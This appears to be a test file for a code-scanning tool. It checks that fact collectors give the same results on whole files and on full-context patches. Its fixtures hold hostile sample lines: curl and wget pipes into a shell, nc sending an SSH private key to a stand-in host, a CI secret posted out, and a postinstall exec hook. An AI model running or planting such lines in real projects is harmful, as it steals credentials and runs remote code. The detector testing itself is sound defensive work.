import assert from 'node:assert/strict'
import { diffLines } from '../../../server/core/diff'
import { buildFlag } from '../../../server/core/facts/buildFlag'
import { command } from '../../../server/core/facts/command'
import { constantComparison } from '../../../server/core/facts/constantComparison'
import { decoder } from '../../../server/core/facts/decoder'
import { dependencyEntry } from '../../../server/core/facts/dependencyEntry'
import { dynamicCall } from '../../../server/core/facts/dynamicCall'
import { endpoint } from '../../../server/core/facts/endpoint'
import { featureProbe } from '../../../server/core/facts/featureProbe'
import { importedModule } from '../../../server/core/facts/importedModule'
import { interpreter } from '../../../server/core/facts/interpreter'
import { namedThing } from '../../../server/core/facts/namedThing'
import { pathUse } from '../../../server/core/facts/pathUse'
import { secretAccess } from '../../../server/core/facts/secretAccess'
import { stringConstant } from '../../../server/core/facts/stringConstant'
import { parsePatch, patchChangeSet } from '../../../server/core/patch'
import type { Collector } from '../../../server/core/rule/rule'
import { hash } from '../../../server/host/hash'
import { inflate } from '../../../server/host/inflate'
import { factsIn, factsOf } from '../../harness/facts'

const collectors = [
  buildFlag,
  command,
  constantComparison,
  decoder,
  dependencyEntry,
  dynamicCall,
  endpoint,
  featureProbe,
  importedModule,
  interpreter,
  namedThing,
  pathUse,
  secretAccess,
  stringConstant,
] as unknown as readonly Collector[]

interface Sample {
  readonly path: string
  readonly old: string
  readonly new: string
}

const samples: readonly Sample[] = [
  {
    path: 'tool.py',
    old: 'import os\n\ndef a():\n    return 1\n',
    new: "import os\n\ndef a():\n    os.system('curl https://a.example.invalid/x | sh')\n    if os.environ['TOKEN'] == 'magic-constant-value':\n        return eval(a)\n    return 1\n",
  },
  {
    path: 'tool.js',
    old: "const cp = require('child_process')\nmodule.exports = 1\n",
    new: "const cp = require('child_process')\ncp.exec(`wget http://b.example.invalid/${name}`)\nif (x === 'letmein-please-now') eval(atob('YWxlcnQoJ3doYXQgZG8gdGhleSBoaWRlPycp'))\nmodule.exports = 1\n",
  },
  {
    path: 'm4/check.m4',
    old: 'AC_DEFUN([gl_CHECK], [\n  AC_COMPILE_IFELSE([AC_LANG_PROGRAM([], [return 0;])], [AC_DEFINE([HAVE_X], [1])])\n])\n',
    new: 'AC_DEFUN([gl_CHECK], [\n  gl_path=`grep -r pattern $srcdir | head -1`\n  AC_COMPILE_IFELSE([AC_LANG_PROGRAM([], [.return 0;])], [AC_DEFINE([HAVE_X], [1])])\n  xz -dc $gl_path | $SHELL\n])\n',
  },
  {
    path: 'Makefile',
    old: 'all:\n\tcc -c a.c\n',
    new: 'CFLAGS = -O2\nall:\n\tcc $(CFLAGS) -c a.c\n\tnc c.example.invalid 99 < $(HOME)/.ssh/id_rsa\n',
  },
  {
    path: 'CMakeLists.txt',
    old: 'project(a)\n',
    new: 'project(a)\ncheck_c_source_compiles("int main(void) { return 0; }" HAVE_Y)\nadd_custom_command(OUTPUT b COMMAND sh -c "curl d.example.invalid | sh")\n',
  },
  {
    path: 'package.json',
    old: '{\n  "name": "a"\n}\n',
    new: '{\n  "name": "a",\n  "scripts": { "postinstall": "node -e \\"require(\'child_process\').exec(\'id\')\\"" },\n  "dependencies": { "left": "^1.0.0" }\n}\n',
  },
  {
    path: '.github/workflows/ci.yml',
    old: 'on: push\njobs: {}\n',
    new: 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo ${{ secrets.KEY }} | base64 |\n            curl -d @- https://e.example.invalid\n',
  },
  {
    path: 'Dockerfile',
    old: 'FROM a\n',
    new: 'FROM a\nRUN apt-get update && \\\n    wget -qO- https://f.example.invalid/i.sh | bash\n',
  },
]

/** A patch that shows every line, as `git diff -U999999` prints it. */
function fullPatch({ path, old, new: changed }: Sample): Uint8Array {
  const hunks = diffLines(old, changed, { contextLines: 1_000_000 })
  const marks = { context: ' ', added: '+', removed: '-' }
  const text = hunks.flatMap(({ oldStart, oldCount, newStart, newCount, lines }) => [
    `@@ -${oldStart},${oldCount} +${newStart},${newCount} @@`,
    ...lines.map(line => `${marks[line.kind]}${line.text}`),
  ])
  const head = [`diff --git a/${path} b/${path}`, `--- a/${path}`, `+++ b/${path}`]
  return new TextEncoder().encode(`${[...head, ...text].join('\n')}\n`)
}

describe('facts from a whole file and from a patch of it with full context', () => {
  for (const sample of samples)
    it(`are the same: ${sample.path}`, async () => {
      const source = patchChangeSet(parsePatch(fullPatch(sample)), 'a.patch', { hash, inflate })
      let count = 0
      for (const collector of collectors) {
        const whole = await factsOf(collector, sample)
        assert.deepEqual(await factsIn(collector, source), whole, collector.kind)
        count += whole.filter(fact => fact.isChanged).length
      }
      assert.ok(count > 0, 'the sample holds no facts')
    })
})
